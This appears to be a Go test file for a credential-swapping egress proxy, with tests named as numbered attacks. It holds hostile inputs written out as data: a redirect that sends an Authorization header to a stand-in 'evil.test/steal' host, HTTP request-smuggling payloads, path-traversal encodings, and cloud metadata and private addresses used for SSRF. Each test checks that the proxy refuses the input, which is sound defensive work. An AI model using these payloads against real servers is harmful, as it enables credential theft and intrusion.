package egress_test

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/zavhoz/zavhoz/run/egress"
	"github.com/zavhoz/zavhoz/vault/policy"
)

// connectTo opens the explicit entry, sends a CONNECT and gives the connection and the answer's head and body.
func (r *rig) connectTo(t testing.TB, authority string) (net.Conn, string) {
	t.Helper()
	c, err := net.Dial("tcp", r.proxy)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", authority, authority); err != nil {
		t.Fatal(err)
	}
	return c, answer(t, c)
}

// answer reads one reply of h1, whole.
func answer(t testing.TB, c io.Reader) string {
	t.Helper()
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return err.Error()
	}
	if resp.StatusCode == http.StatusOK {
		return resp.Status
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.Status + "\n" + string(b)
}

// raw opens an intercepted connection and sends bytes on it; it gives what comes back until the proxy closes.
func (r *rig) raw(t testing.TB, u *upstream, request string) string {
	t.Helper()
	return r.rawFor(t, u, request, 20*time.Second)
}

// rawFor is raw for connections that may stay open: it gives what comes back within the time.
func (r *rig) rawFor(t testing.TB, u *upstream, request string, wait time.Duration) string {
	t.Helper()
	c, status := r.connectTo(t, fmt.Sprintf("%s:%d", host, u.port))
	if !strings.HasPrefix(status, "200") {
		t.Fatal(status)
	}
	tc := tls.Client(c, &tls.Config{RootCAs: r.trust, ServerName: host, NextProtos: []string{"http/1.1"}})
	if _, err := io.WriteString(tc, request); err != nil {
		t.Fatal(err)
	}
	_ = c.SetReadDeadline(time.Now().Add(wait))
	b, _ := io.ReadAll(tc)
	return string(b)
}

func TestAttack34_PlaceholderToAnotherHost(t *testing.T) {
	evil := newUpstream(t, echo, "evil.test")
	u := newUpstream(t, echo)
	r := newRig(t, evil.port, egress.Options{Resources: []egress.Resource{u.resource()}})
	if _, got := r.connectTo(t, fmt.Sprintf("evil.test:%d", evil.port)); !contains(got, "403", "host_not_allowed", "next") {
		t.Errorf("CONNECT: %s", got)
	}
	if _, err := r.client(t, true, true).Get(fmt.Sprintf("https://evil.test:%d/", evil.port)); err == nil {
		t.Error("the transparent entry has a certificate for it")
	}
	if _, got := r.connectTo(t, fmt.Sprintf("%s:%d", host, evil.port)); !contains(got, "403", "host_not_allowed") {
		t.Errorf("the right host at another port: %s", got)
	}
	if evil.count() != 0 {
		t.Error("a request arrived")
	}
	for _, e := range r.wait(t, 3) {
		if e.Decision != egress.Denied || e.Code != "host_not_allowed" || e.Credential {
			t.Errorf("%+v", e)
		}
	}
}

// TestAttack34_PlaceholderToAnAllowedHostOfAnother: a host that another resource allows is not one that this credential goes to.
func TestAttack34_PlaceholderToAnAllowedHostOfAnother(t *testing.T) {
	u := newUpstream(t, echo, "other.test")
	second := u.resource("other.test")
	second.Handle, second.Rules, second.Swaps = "second", second.Rules[:1], []egress.Swap{{Placeholder: "sk-standin-of-the-second-00000000", Header: "Authorization", Template: "Bearer {value}", Value: value("sk-true-value-of-the-second-000000")}}
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{u.resource(), second}})
	r.eachWay(t, func(t *testing.T, c *http.Client) {
		resp, body := get(t, c, "GET", fmt.Sprintf("https://other.test:%d/x", u.port), "Authorization", "Bearer "+standIn)
		if resp.StatusCode != 403 || !contains(body, "host_not_allowed", "forge", host) || strings.Contains(body, truth) {
			t.Errorf("%d %s", resp.StatusCode, body)
		}
		if resp.Header.Get("Content-Type") != "application/problem+json" || !strings.HasPrefix(resp.Header.Get("Proxy-Status"), "zavhoz;") {
			t.Errorf("not a problem: %v", resp.Header)
		}
		// in the path it is refused as well, and told where it goes
		if resp, body := get(t, c, "GET", fmt.Sprintf("https://other.test:%d/bot%s/x?k=%s", u.port, standIn, standIn)); resp.StatusCode != 400 || !contains(body, "stand_in_misplaced") {
			t.Errorf("%d %s", resp.StatusCode, body)
		}
	})
	if u.count() != 0 {
		t.Errorf("%d requests arrived", u.count())
	}
}

func TestAttack35_RedirectToAnotherHost(t *testing.T) {
	evil := newUpstream(t, echo, "evil.test")
	u := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, fmt.Sprintf("https://evil.test:%d/steal?%s", evil.port, r.Header.Get("Authorization")), http.StatusFound)
	})
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{u.resource()}, Matcher: matcher(t, truth)})
	r.eachWay(t, func(t *testing.T, c *http.Client) {
		resp, _ := get(t, c, "GET", u.url("/go"), "Authorization", "Bearer "+standIn)
		if l := resp.Header.Get("Location"); resp.StatusCode != 302 || strings.Contains(l, truth) || !strings.Contains(l, "evil.test") {
			t.Errorf("%d %s", resp.StatusCode, l)
		}
	})
	out := r.program(t, "curl", "-sS", "-L", "--location-trusted", "-H", "Authorization: Bearer "+standIn, u.url("/go"))
	if evil.count() != 0 || strings.Contains(out, truth) {
		t.Errorf("curl followed: %s", out)
	}
}

func TestAttack36_FrontingByHostAndName(t *testing.T) {
	u := newUpstream(t, echo, "other.test")
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{u.resource("other.test")}})
	r.eachWay(t, func(t *testing.T, c *http.Client) {
		for _, h := range []string{"evil.test", fmt.Sprintf("other.test:%d", u.port), host, host + ":443", fmt.Sprintf("%s.:%d", host, u.port), fmt.Sprintf("%s:0%d", host, u.port)} {
			q, err := http.NewRequest("GET", u.url("/x"), nil)
			if err != nil {
				t.Fatal(err)
			}
			q.Host = h
			q.Header.Set("Authorization", "Bearer "+standIn)
			resp, err := c.Do(q)
			if err != nil {
				t.Errorf("%s: %v", h, err)
				continue
			}
			b, _ := io.ReadAll(resp.Body)
			_ = resp.Body.Close()
			if resp.StatusCode != 421 && resp.StatusCode != 400 {
				t.Errorf("%s: %d %s", h, resp.StatusCode, b)
			}
		}
		if resp, body := get(t, c, "GET", strings.Replace(u.url("/x"), host, strings.ToUpper(host), 1), "Authorization", "Bearer "+standIn); resp.StatusCode != 200 {
			t.Errorf("capitals: %d %s", resp.StatusCode, body)
		}
	})
	for _, sni := range []string{"other.test", "evil.test", ""} {
		c, _ := r.connectTo(t, fmt.Sprintf("%s:%d", host, u.port))
		if err := tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: sni}).Handshake(); err == nil {
			t.Errorf("a handshake for %q in a connection to %s", sni, host)
		}
	}
	if n := u.count(); n != 4 {
		t.Errorf("%d requests arrived", n)
	}
}

func TestAttack39_PlaceholderInABodyStaysText(t *testing.T) {
	var body string
	u := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		body = string(b)
		_, _ = io.WriteString(w, r.URL.RawQuery)
	})
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{u.resource()}, Matcher: matcher(t, truth)})
	r.eachWay(t, func(t *testing.T, c *http.Client) {
		body = ""
		q, _ := http.NewRequest("POST", u.url("/publish?token=x"), strings.NewReader("publish "+standIn))
		q.Header.Set("Authorization", "Bearer "+standIn)
		resp, err := c.Do(q)
		if err != nil {
			t.Fatal(err)
		}
		_ = resp.Body.Close()
		if last := u.last(); resp.StatusCode != 200 || body != "publish "+standIn || last.URL.RawQuery != "token=x" || last.Header.Get("Authorization") != "Bearer "+truth {
			t.Errorf("%d, body %q, query %q", resp.StatusCode, body, last.URL.RawQuery)
		}
		n := u.count()
		for name, headers := range map[string][]string{
			"another header":    {"X-Note", standIn},
			"inside a header":   {"Cookie", "session=" + standIn},
			"the wrong scheme":  {"Authorization", "Digest " + standIn},
			"more than asked":   {"Authorization", "Bearer " + standIn + " x"},
			"twice in one":      {"Authorization", "Bearer " + standIn + standIn},
			"twice":             {"Authorization", "Bearer " + standIn, "Authorization", "Bearer " + standIn},
			"beside another":    {"Authorization", "Bearer x", "Authorization", "Bearer " + standIn},
			"within a password": {"Authorization", basic("me", "x"+standIn)},
		} {
			resp, b := get(t, c, "GET", u.url("/x"), headers...)
			if resp.StatusCode != 400 || !contains(b, "stand_in_misplaced", "next") {
				t.Errorf("%s: %d %s", name, resp.StatusCode, b)
			}
		}
		if u.count() != n {
			t.Error("one of them arrived")
		}
	})
}

func TestAttack40_KeyEndpointsAndTrace(t *testing.T) {
	u := newUpstream(t, echo)
	res := u.resource()
	lifted := u.resource()
	lifted.Handle, lifted.Swaps = "lifted", []egress.Swap{{Placeholder: "sk-standin-of-the-lifted-00000000", Header: "Authorization", Template: "Bearer {value}", Value: value("sk-true-value-of-the-lifted-000000")}}
	lifted.Rules = []policy.HostRule{{Host: host, Port: u.port, KeyEndpoints: true}}
	lifted.Mints = policy.Lifted(lifted.Rules, res.Rules)
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{res, lifted}})
	r.eachWay(t, func(t *testing.T, c *http.Client) {
		for _, q := range []string{"GET /keys", "POST /keys/", "GET /keys/1/x", "GET /KEYS", "GET /keys.", "POST /tokens", "POST /Tokens/", "TRACE /x", "TRACK /x", "PROPFIND /x", "get /x"} {
			method, path, _ := strings.Cut(q, " ")
			for _, ph := range []string{standIn, "sk-standin-of-the-lifted-00000000"} {
				if strings.HasPrefix(ph, "sk") && strings.Contains(q, ".") {
					continue
				}
				resp, b := get(t, c, method, u.url(path), "Authorization", "Bearer "+ph)
				if resp.StatusCode != 403 && resp.StatusCode != 400 || resp.StatusCode == 403 && !strings.Contains(b, "request_not_allowed") {
					t.Errorf("%s: %d %s", q, resp.StatusCode, b)
				}
			}
		}
		for _, name := range []string{"X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method", "X_HTTP_Method_Override", "x-http_method-override", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Host", "X-Original-Method", "X-Original-Host", "X_Forwarded_Method"} {
			if resp, b := get(t, c, "POST", u.url("/x"), name, "DELETE", "Authorization", "Bearer "+standIn); resp.StatusCode != 403 {
				t.Errorf("%s: %d %s", name, resp.StatusCode, b)
			}
		}
		for _, v := range []string{"host=evil.test", "for=1.2.3.4; Host = evil.test", "for=1.2.3.4, for=x;proto=https;HOST=\"evil.test\""} {
			if resp, b := get(t, c, "POST", u.url("/x"), "Forwarded", v, "Authorization", "Bearer "+standIn); resp.StatusCode != 403 {
				t.Errorf("Forwarded: %s: %d %s", v, resp.StatusCode, b)
			}
		}
		for _, query := range []string{"_method=DELETE", "a=b&_METHOD=PUT", "a=b;%5fmethod=x", "_method[]=x", "x-http-method-override=PATCH"} {
			if resp, b := get(t, c, "POST", u.url("/x?"+query), "Authorization", "Bearer "+standIn); resp.StatusCode != 403 {
				t.Errorf("%s: %d %s", query, resp.StatusCode, b)
			}
		}
	})
	if u.count() != 0 {
		t.Errorf("%d requests arrived", u.count())
	}
	if got := r.raw(t, u, fmt.Sprintf("CONNECT evil.test:443 HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n", host, u.port)); !strings.HasPrefix(got, "HTTP/1.1 40") {
		t.Errorf("CONNECT inside: %s", got)
	}
}

func TestAttack41_PlainHTTP(t *testing.T)                       { plainHTTP(t) }
func TestAttack56_TheClientAsksForHTTP(t *testing.T)            { plainHTTP(t) }
func TestAttack54_OddAddressesOfHosts(t *testing.T)             { oddAuthorities(t) }
func TestAttack55_PathsThatCanBeReadInTwoWays(t *testing.T)     { oddPaths(t) }
func TestAttack45_PrivateAndMetadataAddresses(t *testing.T)     { privateAddresses(t) }
func TestAttack45_ANameThatChangesItsAddress(t *testing.T)      { rebinding(t) }
func TestAttack44_WhatIsSmuggledIsWrittenAnew(t *testing.T)     { smuggling(t) }
func TestAttack67_GiantAndHalfOpenRequests(t *testing.T)        { exhaustion(t) }
func TestAttack46_TheAuthorityIsGoodForTheRunOnly(t *testing.T) { constrained(t) }

func plainHTTP(t *testing.T) {
	u := newUpstream(t, echo)
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{u.resource()}})
	for _, request := range []string{
		"GET http://api.test/x HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + standIn + "\r\n\r\n",
		"POST http://api.test:443/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 2\r\n\r\nhi",
		"GET https://api.test/x HTTP/1.1\r\nHost: api.test\r\n\r\n",
	} {
		c, err := net.Dial("tcp", r.proxy)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(c, request)
		if got := answer(t, c); !contains(got, "403", "https_required", "https://") {
			t.Errorf("%s", got)
		}
		_ = c.Close()
	}
	if out := r.program(t, "curl", "-sS", "-i", fmt.Sprintf("http://%s:%d/x", host, u.port)); !contains(out, "403", "https_required") {
		t.Errorf("curl: %s", out)
	}
	for name, request := range map[string]string{"a server's request": "GET /x HTTP/1.1\r\nHost: api.test\r\n\r\n", "no port": "CONNECT api.test HTTP/1.1\r\nHost: api.test\r\n\r\n", "nonsense": "\x05\x01\x00",
		"body": "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\n\r\nabc"} {
		c, err := net.Dial("tcp", r.proxy)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(c, request)
		_ = c.(*net.TCPConn).CloseWrite()
		if got := answer(t, c); !strings.HasPrefix(got, "400") {
			t.Errorf("%s: %s", name, got)
		}
		_ = c.Close()
	}
	if u.count() != 0 {
		t.Error("a request arrived")
	}
}

func oddAuthorities(t *testing.T) {
	u := newUpstream(t, echo)
	loop := u.resource()
	loop.Rules = append(loop.Rules, policy.HostRule{Host: "127.0.0.1", Port: u.port})
	loop.Private = false
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{loop}})
	for _, a := range []string{"2130706433", "0x7f000001", "127.1", "0177.0.0.1", "[::ffff:127.0.0.1]", "[::1]", "[64:ff9b::7f00:1]", "0.0.0.0", "[::]", "api.test.", "api。test", "127.0.0.1.", "api.test%00", "api.test@evil.test", "[fe80::1%25lo]", "localhost"} {
		if _, got := r.connectTo(t, fmt.Sprintf("%s:%d", a, u.port)); !strings.HasPrefix(got, "40") {
			t.Errorf("CONNECT %s: %s", a, got)
		}
	}
	// the address is named by a rule, so there is an entry; but it is not one that may be dialled
	q, _ := http.NewRequest("GET", fmt.Sprintf("https://127.0.0.1:%d/", u.port), nil)
	resp, err := r.client(t, false, false).Do(q)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if resp.StatusCode != 403 || !contains(string(b), "host_not_allowed", "--allow-private") || u.count() != 0 {
		t.Errorf("%d %s", resp.StatusCode, b)
	}
}

func oddPaths(t *testing.T) {
	u := newUpstream(t, echo)
	res := u.resource()
	res.Rules = []policy.HostRule{{Host: host, Port: u.port, Paths: []string{"/pub/*"}}}
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{res}})
	for _, path := range []string{"/pub/../other", "/pub/%2e%2e/other", "/pub/%2E./other", "/pub/..%2fother", "/pub/%2fx", "//pub/x", "/pub//x", "/pub/./x", "/pub/x%00", "/pub/%5c..%5cother", "/pub/\\x", "/pub/x;/../y", "/pub/%252e%252e/other",
		"/pub/%c0%ae%c0%ae/x", "/other", "/Pub/x", "/pub/x%", "/pub/%zz", "/pub/x%23y", "/pub/x%3fy", "*", "https://" + host + "/pub/x", "pub/x", "", "/pub/\xff"} {
		got := r.raw(t, u, fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", path, host, u.port, standIn))
		if !strings.HasPrefix(got, "HTTP/1.1 40") {
			t.Errorf("%q: %s", path, got)
		}
	}
	if u.count() != 0 {
		t.Fatalf("one arrived: %s", u.last().RequestURI)
	}
	for path, want := range map[string]string{"/pub/a%20b": "/pub/a%20b", "/%70ub/x?q=/../y": "/%70ub/x?q=/../y", "/pub/x?": "/pub/x?", "/pub/ü": ""} {
		got := r.raw(t, u, fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", path, host, u.port, standIn))
		if want == "" {
			if !strings.HasPrefix(got, "HTTP/1.1 40") {
				t.Errorf("%q: %s", path, got)
			}
		} else if !strings.HasPrefix(got, "HTTP/1.1 200") || u.last().RequestURI != want {
			t.Errorf("%q arrived as %q: %s", path, u.last().RequestURI, got)
		}
	}
}

func privateAddresses(t *testing.T) {
	u := newUpstream(t, echo, "name.test")
	res := u.resource("name.test")
	res.Private, res.Resolve = false, nil
	for _, a := range []string{"127.0.0.1", "10.0.0.1", "169.254.169.254", "100.64.0.1", "100.100.100.200", "192.168.1.1", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "fe80::1", "fd00:ec2::254", "64:ff9b::7f00:1", "2002:7f00:1::", "224.0.0.1", "168.63.129.16"} {
		lookups := 0
		r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{res}, Lookup: lookup(&lookups, a)})
		resp, b := get(t, r.client(t, false, false), "GET", u.url("/x"), "Authorization", "Bearer "+standIn)
		if resp.StatusCode != 403 || !contains(b, "host_not_allowed", "--allow-private") || lookups != 1 || strings.Contains(b, a) {
			t.Errorf("%s: %d %s", a, resp.StatusCode, b)
		}
		if e := r.wait(t, 1)[0]; e.Decision != egress.Failed || e.Code != "host_not_allowed" {
			t.Errorf("%+v", e)
		}
	}
	private := res
	private.Private = true
	for _, a := range []string{"169.254.169.254", "fe80::1", "0.0.0.0", "::", "100.100.100.200", "fd00:ec2::254", "64:ff9b::7f00:1", "224.0.0.1"} {
		lookups := 0
		r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{private}, Lookup: lookup(&lookups, a)})
		if resp, b := get(t, r.client(t, false, false), "GET", u.url("/x")); resp.StatusCode != 403 {
			t.Errorf("allow_private and %s: %d %s", a, resp.StatusCode, b)
		}
	}
	if u.count() != 0 {
		t.Error("a request arrived")
	}
	var lookups int
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{private}, Lookup: lookup(&lookups, "127.0.0.1")})
	if resp, b := get(t, r.client(t, false, false), "GET", u.url("/x")); resp.StatusCode != 200 {
		t.Errorf("allow_private and loopback: %d %s", resp.StatusCode, b)
	}
}

func rebinding(t *testing.T) {
	u := newUpstream(t, func(w http.ResponseWriter, r *http.Request) { w.Header().Set("Connection", "close") })
	res := u.resource()
	res.Resolve = nil
	lookups := 0
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{res}, Lookup: lookup(&lookups, "127.0.0.1", "127.0.0.2", "169.254.169.254")})
	for range 3 { // each on a connection of its own
		if resp, b := get(t, r.client(t, false, false), "GET", u.url("/x"), "Connection", "close"); resp.StatusCode != 200 {
			t.Fatalf("%d %s", resp.StatusCode, b)
		}
	}
	if lookups != 1 {
		t.Errorf("the name was asked for %d times: the second answer may be another", lookups)
	}
}

// lookup answers with the next of addrs each time.
func lookup(n *int, addrs ...string) func(ctx ctx, host string) ([]netip.Addr, error) {
	return func(ctx, string) ([]netip.Addr, error) {
		a := netip.MustParseAddr(addrs[min(*n, len(addrs)-1)])
		*n++
		return []netip.Addr{a}, nil
	}
}

func smuggling(t *testing.T) {
	u := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		_, _ = io.WriteString(w, r.Method+" "+r.RequestURI)
	})
	r := newRig(t, u.port, egress.Options{Resources: []egress.Resource{u.resource()}})
	at := fmt.Sprintf("%s:%d", host, u.port)
	inner := "GET /keys HTTP/1.1\r\nHost: " + at + "\r\nAuthorization: Bearer " + standIn + "\r\n\r\n"
	for name, request := range map[string]string{
		"both lengths":        "POST /x HTTP/1.1\r\nHost: " + at + "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		"lengths that differ": "POST /x HTTP/1.1\r\nHost: " + at + "\r\nContent-Length: 0\r\nContent-Length: 9\r\n\r\n" + inner,
		"chunked twice":       "POST /x HTTP/1.1\r\nHost: " + at + "\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + inner,
		"odd encoding":        "POST /x HTTP/1.1\r\nHost: " + at + "\r\nTransfer-Encoding: xchunked\r\n\r\n" + inner,
		"blank before colon":  "POST /x HTTP/1.1\r\nHost: " + at + "\r\nContent-Length : 0\r\n\r\n" + inner,
		"folded":              "POST /x HTTP/1.1\r\nHost: " + at + "\r\nX: a\r\n Content-Length: 5\r\n\r\n" + inner,
		"two hosts":           "GET /x HTTP/1.1\r\nHost: " + at + "\r\nHost: evil.test\r\n\r\n",
		"bare return":         "GET /x HTTP/1.1\r\nHost: " + at + "\r\nX: a\rAuthorization: b\r\n\r\n",
		"body of a get":       "GET /x HTTP/1.1\r\nHost: " + at + "\r\nContent-Length: " + fmt.Sprint(len(inner)) + "\r\n\r\n" + inner,
		"upgrade to h2":       "GET /x HTTP/1.1\r\nHost: " + at + "\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n" + inner,
	} {
		u.forget()
		got := r.rawFor(t, u, request, 500*time.Millisecond)
		u.mu.Lock()
		for _, q := range u.seen {
			if strings.HasPrefix(q.RequestURI, "/keys") || q.Header.Get("Upgrade") != "" || len(q.TransferEncoding) > 1 {
				t.Errorf("%s: %s %s arrived; %s", name, q.Method, q.RequestURI, got)
			}
		}
		if len(u.seen) > 2 {
			t.Errorf("%s: %d requests arrived", name, len(u.seen))
		}
		u.mu.Unlock()
	}
}
